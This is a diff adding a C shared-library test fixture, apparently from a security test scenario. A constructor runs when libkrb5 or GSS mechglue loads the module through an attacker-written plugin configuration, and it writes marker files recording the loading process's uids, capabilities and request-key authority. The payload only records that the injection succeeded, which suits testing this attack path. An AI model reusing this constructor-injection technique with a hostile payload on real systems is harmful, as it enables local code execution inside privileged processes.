@@ -1,0 +1,77 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * evil_plugin.so: the module a local attacker (scenario 47) names in a
+ * krb5.conf [plugins] section and in a GSS mech configuration of her own.
+ * It needs no entry point: libkrb5 and the GSS mechglue dlopen() a module
+ * before they look for one, and our constructor runs then.  It records
+ * who loaded it in "marks/" beside itself (a directory anyone may write
+ * to): one file per process, naming its uids, whether it holds
+ * capabilities or no_new_privs, and whether it could act with a
+ * request-key authority.  A mark is the attack's success; the scenario
+ * also loads it once from a krb5 tool of her own, to show marks appear.
+ */
+#include <dlfcn.h>
+#include <fcntl.h>
+#include <libgen.h>
+#include <limits.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+#define KEYCTL_DESCRIBE 6
+#define KEY_SPEC_REQKEY_AUTH_KEY (-7)
+
+/* the Uid:, CapEff: and NoNewPrivs: lines of our own status */
+static void status_lines(FILE *out)
+{
+	char line[256];
+	FILE *st = fopen("/proc/self/status", "re");
+
+	if (!st)
+		return;
+	while (fgets(line, sizeof(line), st))
+		if (!strncmp(line, "Uid:", 4) || !strncmp(line, "CapEff:", 7) ||
+		    !strncmp(line, "NoNewPrivs:", 11))
+			fputs(line, out);
+	fclose(st);
+}
+
+__attribute__((constructor)) static void evil_mark(void)
+{
+	char self[PATH_MAX], path[PATH_MAX + 64], comm[64] = "?";
+	char auth[256] = "";
+	Dl_info info;
+	FILE *out;
+	long r;
+	int fd;
+
+	if (!dladdr((void *)evil_mark, &info) || !info.dli_fname ||
+	    strlen(info.dli_fname) >= sizeof(self))
+		return;
+	strcpy(self, info.dli_fname);
+	snprintf(path, sizeof(path), "%s/marks/mark.%d", dirname(self),
+		 (int)getpid());
+	fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
+	if (fd < 0)
+		return;
+	out = fdopen(fd, "a");
+	if (!out) {
+		close(fd);
+		return;
+	}
+	fd = open("/proc/self/comm", O_RDONLY | O_CLOEXEC);
+	if (fd >= 0) {
+		r = read(fd, comm, sizeof(comm) - 1);
+		comm[r > 0 ? r : 0] = 0;
+		comm[strcspn(comm, "\n")] = 0;
+		close(fd);
+	}
+	r = syscall(SYS_keyctl, KEYCTL_DESCRIBE, KEY_SPEC_REQKEY_AUTH_KEY,
+		    auth, sizeof(auth) - 1);
+	fprintf(out, "pid %d comm %s uid %d euid %d reqkey-authority %s\n",
+		(int)getpid(), comm, (int)getuid(), (int)geteuid(),
+		r >= 0 ? auth : "none");
+	status_lines(out);
+	fclose(out);
+}
